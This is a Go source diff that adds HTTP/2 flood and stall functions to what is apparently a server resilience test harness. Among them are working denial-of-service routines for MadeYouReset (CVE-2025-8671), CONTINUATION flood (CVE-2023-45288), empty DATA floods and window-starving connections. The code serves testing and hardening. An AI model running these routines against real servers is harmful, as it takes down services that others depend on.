@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"io"
 	"net"
+	"slices"
 	"strings"
 	"time"
 
@@ -20,6 +21,8 @@ const (
 	frameSettings     = byte(http2.FrameSettings)
 	framePing         = byte(http2.FramePing)
 	frameWindowUpdate = byte(http2.FrameWindowUpdate)
+	frameData         = byte(http2.FrameData)
+	frameContinuation = byte(http2.FrameContinuation)
 
 	endStreamAndHeaders = 0x5
 )
@@ -74,7 +77,9 @@ func open(ctx context.Context, address string, settings ...uint32) (*peer, error
 }
 
 // request returns the frame of a request with more fields.
-func (p *peer) request(more ...hpack.HeaderField) []byte {
+func (p *peer) request(more ...hpack.HeaderField) []byte { return p.requestFor(path, more...) }
+
+func (p *peer) requestFor(path string, more ...hpack.HeaderField) []byte {
 	p.block = p.block[:0]
 	for _, f := range append([]hpack.HeaderField{
 		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: host}, {Name: ":path", Value: path},
@@ -153,6 +158,52 @@ func http2RapidReset(ctx context.Context, address string) error {
 	})
 }
 
+// http2MadeYouReset breaks a rule on each stream, so that the server resets it after it has begun to work on it
+// (CVE-2025-8671).
+func http2MadeYouReset(ctx context.Context, address string) error {
+	return flood(ctx, address, true, func(p *peer) []byte {
+		var all []byte
+		for range 100 {
+			all = append(all, p.request()...)
+			all = append(all, frame(frameWindowUpdate, 0, p.stream-2, []byte{0, 0, 0, 0})...)
+		}
+		return all
+	})
+}
+
+// http2DataFlood begins a request with a body, and sends empty parts of it over and over.
+func http2DataFlood(ctx context.Context, address string) error {
+	begun := false
+	return flood(ctx, address, true, func(p *peer) []byte {
+		var all []byte
+		if !begun {
+			begun, all = true, p.request()
+			all[4] &^= 1 // its end is left open
+		}
+		for len(all) < 16<<10 {
+			all = append(all, frame(frameData, 0, 1, nil)...)
+		}
+		return all
+	})
+}
+
+// http2ContinuationFlood sends a header that never ends (CVE-2023-45288).
+func http2ContinuationFlood(ctx context.Context, address string) error {
+	begun := false
+	return flood(ctx, address, true, func(p *peer) []byte {
+		var all []byte
+		if !begun {
+			begun, all = true, p.request()
+			all[4] &^= endStreamAndHeaders
+		}
+		field := []byte("\x00\x01x\x7f\x21" + strings.Repeat("a", 160)) // a name of one byte and 160 bytes of value, not to be indexed
+		for len(all) < 16<<10 {
+			all = append(all, frame(frameContinuation, 0, 1, field)...)
+		}
+		return all
+	})
+}
+
 // http2Flood sends one frame over and over.
 func http2Flood(f []byte) func(ctx context.Context, address string) error {
 	var batch []byte
@@ -176,18 +227,28 @@ func http2Idle(ctx context.Context, address string) error {
 	return untilClosed(p)
 }
 
-// http2WindowDrip asks for as much as it may and takes a byte of each answer at a time.
-func http2WindowDrip(ctx context.Context, address string) error {
+// openUnread opens a connection that lets no answer begin, for want of a window, and forgets what comes over it all the
+// same. The channel is closed when the server has ended it.
+func openUnread(ctx context.Context, address string) (*peer, <-chan struct{}, error) {
 	p, err := open(ctx, address, uint32(http2.SettingInitialWindowSize), 0)
 	if err != nil {
-		return err
+		return nil, nil, err
 	}
-	defer p.Close()
 	ended := make(chan struct{})
 	go func() {
 		defer close(ended)
 		_, _ = io.Copy(io.Discard, p)
 	}()
+	return p, ended, nil
+}
+
+// http2WindowDrip asks for as much as it may and takes a byte of each answer at a time.
+func http2WindowDrip(ctx context.Context, address string) error {
+	p, ended, err := openUnread(ctx, address)
+	if err != nil {
+		return err
+	}
+	defer p.Close()
 	for p.stream < 1<<30 {
 		if err := p.write(p.requests(100)); err != nil {
 			return err
@@ -210,21 +271,114 @@ func http2WindowDrip(ctx context.Context, address string) error {
 	return nil
 }
 
+// http2OwnAnswers has requests that net/http answers by itself, and takes none of the answers: a field that HTTP/2 does not allow, or a
+// header that is too large, from a table that the first request has filled.
+func http2OwnAnswers(field hpack.HeaderField, times int) func(ctx context.Context, address string) error {
+	return func(ctx context.Context, address string) error {
+		p, ended, err := openUnread(ctx, address)
+		if err != nil {
+			return err
+		}
+		defer p.Close()
+		fields := slices.Repeat([]hpack.HeaderField{field}, times)
+		for p.stream < 1<<30 {
+			if err := p.write(p.requests(32, fields...)); err != nil {
+				return err
+			}
+			select {
+			case <-ended:
+				return io.EOF
+			case <-time.After(ownAnswersEvery):
+			}
+		}
+		return nil
+	}
+}
+
+// ownAnswersEvery is how often http2OwnAnswers asks: some time before the server gives up the answers before.
+const ownAnswersEvery = 5200 * time.Millisecond
+
 // stallEvery is how often http2Stall asks: before the server gives up the answer before.
 const stallEvery = 4500 * time.Millisecond
 
-// http2Stall never permits a byte of an answer, and always has one outstanding.
-func http2Stall(ctx context.Context, address string) error {
+// http2Drip has one request at a time and takes each answer, all of it, after a time for which any honest client may let one wait.
+func http2Drip(ctx context.Context, address string) error {
 	p, err := open(ctx, address, uint32(http2.SettingInitialWindowSize), 0)
 	if err != nil {
 		return err
 	}
 	defer p.Close()
-	ended := make(chan struct{})
-	go func() {
-		defer close(ended)
-		_, _ = io.Copy(io.Discard, p)
-	}()
+	frames := http2.NewFramer(io.Discard, p)
+	if err := p.write(p.request()); err != nil {
+		return err
+	}
+	for {
+		f, err := frames.ReadFrame()
+		if err != nil {
+			return err
+		}
+		switch f := f.(type) {
+		case *http2.HeadersFrame:
+			select {
+			case <-ctx.Done():
+				return ctx.Err()
+			case <-time.After(1500 * time.Millisecond):
+			}
+			err = p.write(frame(frameWindowUpdate, 0, f.StreamID, []byte{0, 0, 0x7f, 0xff}))
+		case *http2.DataFrame:
+			if f.StreamEnded() {
+				err = p.write(p.request())
+			}
+		}
+		if err != nil {
+			return err
+		}
+	}
+}
+
+// http2LongPaths asks for documents whose names fill a header, and takes none of the answers.
+func http2LongPaths(ctx context.Context, address string) error {
+	p, ended, err := openUnread(ctx, address)
+	if err != nil {
+		return err
+	}
+	defer p.Close()
+	for range 2 { // as many as are never refused
+		if err := p.write(p.requestFor("/" + strings.Repeat("a", 15<<10))); err != nil {
+			return err
+		}
+	}
+	select {
+	case <-ended:
+	case <-ctx.Done():
+	}
+	return io.EOF
+}
+
+// http2HangUp leaves while its request is open, so that the server has to notice what it need not keep.
+func http2HangUp(ctx context.Context, address string) error {
+	p, _, err := openUnread(ctx, address)
+	if err != nil {
+		return err
+	}
+	defer p.Close()
+	if err := p.write(p.request()); err != nil {
+		return err
+	}
+	select {
+	case <-time.After(50 * time.Millisecond): // in which the request is begun
+	case <-ctx.Done():
+	}
+	return nil
+}
+
+// http2Stall never permits a byte of an answer, and always has one outstanding.
+func http2Stall(ctx context.Context, address string) error {
+	p, ended, err := openUnread(ctx, address)
+	if err != nil {
+		return err
+	}
+	defer p.Close()
 	for {
 		if err := p.write(p.request()); err != nil {
 			return err
